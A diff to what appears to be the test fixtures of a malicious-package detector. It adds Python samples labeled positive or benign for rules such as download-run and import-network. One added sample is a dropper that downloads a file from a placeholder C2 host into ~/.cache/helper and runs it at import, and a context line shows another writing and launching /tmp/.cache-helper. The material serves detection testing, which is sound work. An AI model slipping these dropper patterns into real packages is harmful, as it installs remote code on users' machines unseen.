@@ -134,6 +134,68 @@ open("/tmp/.cache-helper", "wb").write(r.content)
 os.chmod("/tmp/.cache-helper", 0o755)
 os.system("/tmp/.cache-helper &")
 """
+# A CLI whose command fetches a file: registered with its group, run only when asked for.
+CLI_COMMAND_REGISTERED = """\
+import click
+import urllib.request
+
+
+@click.group()
+def cli():
+    pass
+
+
+@click.command()
+@click.argument("url")
+def fetch(url):
+    data = urllib.request.urlopen(url).read()
+    click.echo(len(data))
+
+
+cli.add_command(fetch)
+"""
+# The same group with the command called at import as well: that runs.
+CLI_COMMAND_CALLED = CLI_COMMAND_REGISTERED + f'fetch.callback("{C2}/x")\n'
+# A dropper split in two functions: what one downloads, the other runs by the same name.
+DOWNLOAD_THEN_START = f"""\
+import os, subprocess, urllib.request
+
+HELPER = os.path.join(os.path.expanduser("~"), ".cache", "helper")
+
+
+def fetch():
+    urllib.request.urlretrieve("{C2}/helper", HELPER)
+
+
+def start():
+    os.chmod(HELPER, 0o755)
+    subprocess.Popen([HELPER])
+
+
+fetch()
+start()
+"""
+# A build that downloads a source archive in one function and runs make in another.
+FETCH_SOURCES_THEN_BUILD = f"""\
+import os, subprocess, tarfile, urllib.request
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+
+
+def fetch_sources():
+    archive = os.path.join(HERE, "libfoo-1.2.tgz")
+    urllib.request.urlretrieve("{C2}/libfoo-1.2.tgz", archive)
+    with tarfile.open(archive) as tar:
+        tar.extractall(HERE)
+
+
+def build():
+    subprocess.run("make -j4 install", shell=True, check=True, cwd=os.path.join(HERE, "libfoo"))
+
+
+fetch_sources()
+build()
+"""
 DOWNLOAD_ONLY_SAVE = f"""\
 import requests
 
@@ -248,6 +310,8 @@ PIP_INSTALL_ON_REQUEST = (
     '    subprocess.check_call([sys.executable, "-m", "pip", "install", name])\n'
 )
 PIP_INSTALL_MESSAGE = 'import os\n\nos.system("echo to upgrade, run pip install -U pkg")\n'
+# pip installing the source tree it runs in: no package from anywhere else.
+PIP_INSTALL_HERE = 'import os\n\nos.system("pip install -e .")\n'
 
 
 IMPORT_UPLOAD_FILES = """\
@@ -840,8 +904,14 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
             module(DOWNLOAD_BINARY_CHMOD),
             setup_py(DOWNLOAD_PYZ_RUN),
             module(DOWNLOAD_PLANTED_MODULE),
+            module(DOWNLOAD_THEN_START),
         ],
-        benign=[module(DOWNLOAD_ONLY_SAVE), module(DOWNLOAD_TOOL_RUNTIME), module(SDK_CLIENT)],
+        benign=[
+            module(DOWNLOAD_ONLY_SAVE),
+            module(DOWNLOAD_TOOL_RUNTIME),
+            module(SDK_CLIENT),
+            setup_py(FETCH_SOURCES_THEN_BUILD),
+        ],
     ),
     "download-run-runtime": RuleFixtures(
         positive=[module(DOWNLOAD_TOOL_RUNTIME)],
@@ -869,8 +939,12 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
         benign=[module(IMPORT_GIT), module(RUNTIME_CURL), setup_py(IMPORT_CURL)],
     ),
     "import-network": RuleFixtures(
-        positive=[module(IMPORT_URLOPEN), module(SOCKET_AT_IMPORT)],
-        benign=[module(SDK_CLIENT), module(LOCAL_IP.replace("gethostbyname", "getfqdn"))],
+        positive=[module(IMPORT_URLOPEN), module(SOCKET_AT_IMPORT), module(CLI_COMMAND_CALLED)],
+        benign=[
+            module(SDK_CLIENT),
+            module(LOCAL_IP.replace("gethostbyname", "getfqdn")),
+            module(CLI_COMMAND_REGISTERED),
+        ],
     ),
     "env-dump": RuleFixtures(
         positive=[module(ENV_TO_FILE)],
@@ -958,7 +1032,11 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
     ),
     "import-side-install": RuleFixtures(
         positive=[module(IMPORT_PIP_INSTALL), module(IMPORT_PIP_MODULE)],
-        benign=[module(PIP_INSTALL_ON_REQUEST), module(PIP_INSTALL_MESSAGE)],
+        benign=[
+            module(PIP_INSTALL_ON_REQUEST),
+            module(PIP_INSTALL_MESSAGE),
+            module(PIP_INSTALL_HERE),
+        ],
     ),
     "stego-exec": RuleFixtures(
         positive=[module(STEGO_WAV, "telnyx/_client.py"), module(STEGO_PIXELS)],
